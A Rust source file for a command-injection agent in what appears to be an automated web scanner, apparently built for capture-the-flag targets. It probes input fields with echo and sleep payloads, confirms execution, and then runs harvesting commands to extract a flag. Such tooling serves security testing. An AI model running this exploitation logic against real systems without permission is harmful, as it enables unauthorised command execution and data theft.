//! Command-injection agent: output-grounded separator+echo probes with a
//! time-based fallback sharing the blind-SQLi decision rule.

use async_trait::async_trait;

use super::{Agent, AgentCx, AgentError, AgentOutput};
use crate::http::HttpError;
use crate::payload::CMDI_SEEDS;
use crate::state::{
    AttemptOutcome, Channel, Evidence, EvidenceDetail, Finding, InjectionPoint, VulnClass,
};

/// Output-based probes first: a scan-unique marker echoed through each
/// separator form; fallback time-based probes when output is suppressed.
pub async fn cmdi_scan(
    cx: &mut AgentCx<'_>,
    point: &InjectionPoint,
) -> Result<Option<Finding>, AgentError> {
    let siblings = cx.siblings(point);
    let session = cx.session.clone();
    let base = point.baseline_value.clone();
    let token = cx.markers.next_marker();
    // Quote-split marker: shell quote removal joins the halves, so the whole
    // token can only ever appear through actual command execution.
    let split_marker = format!("{}''{}", &token[..5], &token[5..]);

    for template in &CMDI_SEEDS.echo_templates {
        if cx.out_of_time() {
            break;
        }
        let value = format!("{base}{}", template.replace("{MARKER}", &split_marker));
        if cx.suppressed(&point.key(), VulnClass::Cmdi, value.as_bytes()) {
            continue;
        }
        let resp = cx
            .engine
            .execute_tagged(point, value.as_bytes(), &siblings, session.as_ref(), "probe")
            .await?;
        let body = resp.body_text().into_owned();
        // A page reflecting the whole injected value (raw or entity-encoded)
        // is echoing input, not executing it: the marker only counts outside
        // that reflection.
        let echoed_raw = body.replace(&value, "");
        let echoed_decoded = crate::htmlscan::decode_entities(&body).replace(&value, "");
        if !(echoed_raw.contains(&token) && echoed_decoded.contains(&token)) {
            cx.register(
                &point.key(),
                VulnClass::Cmdi,
                value.as_bytes(),
                AttemptOutcome::NoSignal,
                body.as_bytes(),
            );
            continue;
        }
        // Echo observed: harvest the flag, then report.
        let mut trace = vec![resp.request.clone()];
        let mut flag = cx.flag_in(body.as_bytes());
        let mut final_payload = value.clone();
        let mut last_body = body.clone();
        for harvest in &CMDI_SEEDS.harvest_commands {
            if flag.is_some() {
                break;
            }
            let hv = format!("{base}{harvest}");
            let hresp = cx
                .engine
                .execute_tagged(point, hv.as_bytes(), &siblings, session.as_ref(), "exploit")
                .await?;
            let hbody = hresp.body_text().into_owned();
            let found = cx.flag_in(hbody.as_bytes());
            cx.register(
                &point.key(),
                VulnClass::Cmdi,
                hv.as_bytes(),
                if found.is_some() {
                    AttemptOutcome::PartialSignal
                } else {
                    AttemptOutcome::NoSignal
                },
                hbody.as_bytes(),
            );
            if found.is_some() {
                trace.push(hresp.request.clone());
                final_payload = hv;
                flag = found;
                last_body = hbody;
            }
        }
        let finding = Finding {
            vuln_class: VulnClass::Cmdi,
            point: point.key(),
            payload: final_payload.into_bytes(),
            evidence: Evidence {
                detail: EvidenceDetail::ExtractedData { data: token.clone().into_bytes() },
                request_trace: trace,
            },
            solved_flag: flag,
            elapsed_s: cx.elapsed_s(),
            tokens_spent: cx.tokens_spent(),
            exploit_attempts: 2,
        };
        cx.emit_finding(finding.clone(), last_body.as_bytes());
        return Ok(Some(finding));
    }

    // Time-based fallback: same decision rule as blind SQLi.
    let baseline = match cx
        .engine
        .measure_baseline(point, cx.config.baseline_samples, &siblings)
        .await
    {
        Ok(b) => b,
        Err(HttpError::BudgetExhausted) => return Err(HttpError::BudgetExhausted.into()),
        Err(_) => return Ok(None),
    };
    let d_s = cx.config.detect_delay_ms as f64 / 1000.0;
    let threshold = baseline.median_ms + 0.8 * cx.config.detect_delay_ms as f64;
    let control_band = baseline.median_ms + (100.0_f64).max(5.0 * baseline.mad_ms);

    for template in &CMDI_SEEDS.sleep_templates {
        if cx.out_of_time() {
            break;
        }
        let value = format!("{base}{}", template.replace("{D}", &d_s.to_string()));
        let mut timings = Vec::with_capacity(3);
        let mut delayed_req = None;
        for _ in 0..3 {
            let resp = cx
                .engine
                .execute_tagged(point, value.as_bytes(), &siblings, session.as_ref(), "timing")
                .await?;
            cx.register(
                &point.key(),
                VulnClass::Cmdi,
                value.as_bytes(),
                AttemptOutcome::PartialSignal,
                &resp.body,
            );
            timings.push(resp.elapsed_ms as f64);
            delayed_req = Some(resp.request.clone());
        }
        let median3 = crate::http::median(&timings);
        if median3 < threshold {
            continue;
        }
        let control_value = format!("{base}{}", template.replace("{D}", "0"));
        let control = cx
            .engine
            .execute_tagged(point, control_value.as_bytes(), &siblings, session.as_ref(), "timing")
            .await?;
        cx.register(
            &point.key(),
            VulnClass::Cmdi,
            control_value.as_bytes(),
            AttemptOutcome::PartialSignal,
            &control.body,
        );
        if (control.elapsed_ms as f64) > control_band {
            continue;
        }
        let finding = Finding {
            vuln_class: VulnClass::Cmdi,
            point: point.key(),
            payload: value.clone().into_bytes(),
            evidence: Evidence {
                detail: EvidenceDetail::TimingDifferential {
                    baseline_ms: baseline.median_ms as u64,
                    injected_ms: median3 as u64,
                    threshold_ms: threshold as u64,
                },
                request_trace: vec![delayed_req.expect("three probes ran")],
            },
            solved_flag: None,
            elapsed_s: cx.elapsed_s(),
            tokens_spent: cx.tokens_spent(),
            exploit_attempts: 4,
        };
        cx.emit_finding(finding.clone(), &control.body);
        return Ok(Some(finding));
    }
    Ok(None)
}

pub struct CmdiAgent;

#[async_trait]
impl Agent for CmdiAgent {
    fn class(&self) -> VulnClass {
        VulnClass::Cmdi
    }

    async fn run(&self, cx: &mut AgentCx<'_>) -> Result<AgentOutput, AgentError> {
        let mut output = AgentOutput::default();
        let points: Vec<InjectionPoint> = cx
            .state
            .surface
            .iter()
            .filter(|p| matches!(p.channel, Channel::Query | Channel::BodyField))
            .cloned()
            .collect();
        for point in points {
            if cx.out_of_time() {
                break;
            }
            match cmdi_scan(cx, &point).await {
                Ok(Some(_)) => {
                    output.findings_added += 1;
                    if cx.state.solved() {
                        break;
                    }
                }
                Ok(None) => {}
                Err(err) if err.is_budget() => return Err(err),
                Err(err) => tracing::debug!(%err, "cmdi scan failed on point"),
            }
        }
        Ok(output)
    }
}
